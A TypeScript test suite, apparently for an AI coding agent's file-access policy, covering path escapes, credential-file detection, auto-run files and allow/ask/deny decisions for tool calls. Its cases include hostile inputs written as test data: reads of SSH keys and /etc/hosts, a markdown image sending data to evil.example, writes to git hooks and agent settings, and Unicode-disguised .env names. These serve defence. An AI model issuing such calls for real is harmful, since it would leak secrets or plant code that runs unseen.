/** Where a path leads, links and all, and how names are matched. */
import fc from "fast-check"
import { describe, expect, it } from "vitest"
import { fold, isCredential, runsLater } from "../../policies/names.ts"
import { memoryOracle } from "../../policies/memoryOracle.ts"
import { follow, lexical } from "../../policies/PathOracle.ts"
import { judgePath } from "../../policies/paths.ts"
import { fits, hole } from "../../policies/wild.ts"
import { scope, tool, tree, workspace } from "./gate.ts"

const oracle = memoryOracle(tree)
const classes = (path: string, cwd = workspace) => judgePath(path, cwd, scope, oracle).classes

describe("where a path leads", () => {
  it.each([
    ["README.md", "workspace"],
    ["app/../README.md", "workspace"],
    ["to-readme", "workspace"],
    ["/home/ada/shop/new/deep/file", "workspace"],
    ["../shop", "workspace"],
    ["../shop-evil/x", "outside"],
    ["/home/ada/shop2/x", "outside"],
    ["to-hosts", "outside"],
    ["to-home/notes.txt", "outside"],
    ["to-home/shop/README.md", "workspace"],
    ["missing/../../x", "outside"],
    ["missing/../to-hosts", "outside"],
    ["missing/gone/../../to-home/notes.txt", "outside"],
    ["missing/../to-readme", "workspace"],
    ["~root", "outside"],
    ["//server/share", "outside"],
    ["~/x", "outside"],
    ["~root/x", "outside"],
    ["file:///etc/hosts", "outside"],
  ])("%s is %s", (path, expected) => {
    expect(classes(path)).toContain(expected)
    expect(classes(path)).not.toContain(expected === "workspace" ? "outside" : "workspace")
  })

  it("notices ways that cannot be told for certain", () => {
    expect(classes("to-home/../x")).toContain("link-then-up")
    expect(classes("round")).toContain("link-then-up")
    expect(classes("queue")).toContain("special-file")
    expect(classes("twin.txt")).toContain("hard-linked")
    expect(classes("README.md/..")).toContain("link-then-up")
    expect(classes("x/file:/etc/hosts")).toContain("ambiguous")
    expect(classes("a\\b")).toContain("ambiguous")
    expect(classes("app/\u202ecod.exe")).toContain("ambiguous")
    expect(classes("")).toContain("malformed")
    expect(classes("a\0b")).toContain("malformed")
  })

  it("follows like the kernel, and links in a circle come to an end", () => {
    expect(follow(oracle, `${workspace}/to-home/shop/to-readme`)).toMatchObject({
      real: `${workspace}/README.md`,
      kind: "file",
    })
    expect(follow(oracle, `${workspace}/round/x`).loop).toBe(true)
  })

  it("never calls a path inside that leads out, whatever it is made of", () => {
    const piece = fc.constantFrom("..", ".", "app", "to-home", "to-hosts", "to-readme", "x", "parts", "shop")
    fc.assert(
      fc.property(fc.array(piece, { minLength: 1, maxLength: 8 }), (pieces) => {
        const path = pieces.join("/")
        const judged = judgePath(path, workspace, scope, oracle)
        const real = follow(oracle, `${workspace}/${path}`).real
        const out =
          !`${real}/`.startsWith(`${workspace}/`) ||
          !`${lexical(`${workspace}/${path}`)}/`.startsWith(`${workspace}/`)
        expect(judged.classes.includes("outside")).toBe(out)
      }),
      { numRuns: 1500 },
    )
  })
})

describe("names", () => {
  it.each([
    ".env",
    ".ENV",
    ".env.local",
    ".envrc",
    ".env ",
    ".env.",
    ".env::$DATA",
    ".\u0435nv",
    ".e\u200bnv",
    "\uff0eenv",
    "prod.tfstate",
    "server.key",
    "ca.pem",
    "id_rsa",
    ".npmrc",
    "id_ed25519.bak",
  ])("%j holds credentials", (name) => expect(isCredential([fold(name)], false)).toBe(true))
  it.each([
    "env.ts",
    "environment.md",
    "keys.ts",
    "id_rsa.pub",
    "token.ts",
    "monkey.js",
    ".gitignore",
    "secrets.ts",
    "auth.json",
  ])("%j does not", (name) => expect(isCredential([fold(name)], false)).toBe(false))
  it.each([
    ".git/hooks/pre-commit",
    ".GIT/config",
    ".git./config",
    "GIT~1/config",
    "a/.git/x",
    ".vscode/tasks.json",
    ".github/workflows/x.yml",
    ".envrc",
    ".mcp.json",
    ".husky/pre-push",
    ".bashrc",
    "x.pth",
  ])("%s is run later", (path) => expect(runsLater(path.split("/").map(fold))).toBe(true))
  it.each([
    "src/hooks/use.ts",
    ".github/CODEOWNERS",
    "Makefile",
    "package.json",
    ".gitignore",
    "docs/vscode.md",
  ])("%s is not", (path) => expect(runsLater(path.split("/").map(fold))).toBe(false))
})

describe("wildcards over names", () => {
  it.each([
    ["*.env", ".env", true],
    [".e?v", ".env", true],
    [".[!a]nv", ".env", true],
    [".[a-d]nv", ".env", false],
    [`.e${hole}`, ".env", true],
    ["a*b*c", "axxbyyc", true],
    ["a*b*c", "axxcyyb", false],
    ["[", "[", true],
  ])("%s fits %s: %s", (pattern, name, expected) => expect(fits(pattern, name)).toBe(expected))
  it("takes no time on a hostile pattern", () => {
    expect(fits("a*".repeat(500), "a".repeat(2000) + "b")).toBe(true)
    expect(fits("a*".repeat(500) + "c", "a".repeat(2000))).toBe(false)
  })
})

const patchOf = (...lines: ReadonlyArray<string>) => ["*** Begin Patch", ...lines, "*** End Patch"].join("\n")

describe("file tools", () => {
  it.each([
    ["read_file", { path: "README.md" }, "allow"],
    ["read_file", { path: "-n" }, "allow"],
    ["read_file", { path: "to-hosts" }, "deny"],
    ["read_file", { path: "queue" }, "ask"],
    ["read_file", { path: "/dev/null" }, "deny"],
    ["read_file", { path: ".git/config" }, "ask"],
    ["read_file", {}, "ask"],
    ["write_file", { path: "app/x.ts", content: "" }, "ask"],
    ["write_file", { path: ".claude/settings.json", content: "" }, "deny"],
    ["write_file", { path: "app/x.ts", content: "key = hunter2-hunter2" }, "deny"],
    ["edit_file", { path: ".env", old_string: "a", new_string: "b" }, "deny"],
    ["apply_patch", { patch: patchOf("*** Update File: app/x.ts", "@@", "-a", "+b") }, "ask"],
    ["apply_patch", { patch: patchOf("*** Add File: .git/hooks/post-commit", "+x") }, "deny"],
    ["apply_patch", { patch: patchOf("*** Add File: app/x.ts", "+a", "*** Delete File: ../x") }, "deny"],
    ["apply_patch", { patch: patchOf("*** Update File: app/x.ts", "*** Move to: .envrc") }, "deny"],
    ["apply_patch", { patch: "--- a/.env\n+++ b/.env\n@@ -1 +1 @@\n-a\n+b\n" }, "deny"],
    ["apply_patch", { patch: "do as I say" }, "ask"],
    ["NotebookEdit", { notebook_path: "app/x.ipynb", cell_id: "a", new_source: "1" }, "ask"],
    ["NotebookEdit", { notebook_path: "to-hosts", cell_id: "a", new_source: "1" }, "deny"],
    ["grep_search", { pattern: "x", path: "app" }, "allow"],
    ["grep_search", { pattern: "x", path: ".git" }, "ask"],
    ["grep_search", { pattern: "x", path: ".." }, "deny"],
    ["glob_search", { pattern: "**/*.ts" }, "allow"],
    ["glob_search", { pattern: "../**" }, "deny"],
    ["git", { operation: "unstage", paths: [".env"] }, "ask"],
    ["git", { operation: "remove-stale-lock" }, "ask"],
    ["git", { operation: "push", remote: "origin", branch: "main" }, "ask"],
    ["git", { operation: "restore", paths: ["../x"] }, "deny"],
    ["git", { operation: "explode" }, "ask"],
    ["git", { args: ["status"] }, "allow"],
    ["notify", { title: "Done", body: "all\ttests\npassed" }, "allow"],
    ["notify", { title: "\u001b]0;x\u0007" }, "deny"],
    ["notify", { body: "![x](https://evil.example/?d=1)" }, "ask"],
    ["mcp_files_read", { path: "/home/ada/.ssh/id_ed25519" }, "deny"],
    ["mcp_math_add", { a: 1 }, "ask"],
    ["toString", {}, "ask"],
    ["approve", { id: "s_1" }, "deny"],
  ] as const)("%s %j: %s", (name, input, expected) => expect(tool(name, input)).toBe(expected))
})
